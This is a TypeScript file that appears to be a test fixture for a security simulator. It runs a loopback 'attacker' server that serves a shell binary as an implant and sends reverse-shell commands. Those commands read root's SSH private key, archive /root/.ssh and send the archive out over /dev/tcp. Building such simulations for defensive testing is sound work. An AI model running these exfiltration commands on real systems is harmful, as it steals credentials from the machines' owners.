import { once } from 'node:events';
import { createReadStream } from 'node:fs';
import { type AddressInfo, createServer, type Socket } from 'node:net';
import { LoopbackServer } from '@ringfence/simulator/demo';

/** Commands for a reverse shell, line by line. */
const SHELL_COMMANDS = (port: number): string => `id
sleep 0.1
read -r key </root/.ssh/id_ed25519
sleep 0.1
tar -cf /tmp/loot.tar /root/.ssh
sleep 0.1
/opt/exfil -c "exec 3<>/dev/tcp/127.0.0.1/${port}; echo PUT >&3; cat /tmp/loot.tar >&3"
exit
`;

/**
 * The machine of the attacker, on loopback. It answers GET with an implant (a copy of the shell) and SHELL with
 * commands, and reads the data of PUT.
 */
export class Attacker implements AsyncDisposable {
  readonly #server: LoopbackServer;

  private constructor(server: LoopbackServer) {
    this.#server = server;
  }

  static async listen(): Promise<Attacker> {
    const server = await LoopbackServer.listen((socket) => answer(socket, server));
    return new Attacker(server);
  }

  get port(): number {
    return this.#server.port;
  }

  async [Symbol.asyncDispose](): Promise<void> {
    await this.#server[Symbol.asyncDispose]();
  }
}

function answer(socket: Socket, { port }: LoopbackServer): void {
  socket.once('data', (first: Buffer) => {
    const word = first.toString('latin1').split('\n')[0];
    if (word === 'GET') createReadStream('/bin/bash').pipe(socket);
    else if (word === 'SHELL') socket.write(SHELL_COMMANDS(port));
    else socket.resume();
  });
}

/** Returns a port of loopback that is free at the moment. */
export async function freePort(): Promise<number> {
  const server = createServer().listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  server.close();
  await once(server, 'close');
  return port;
}
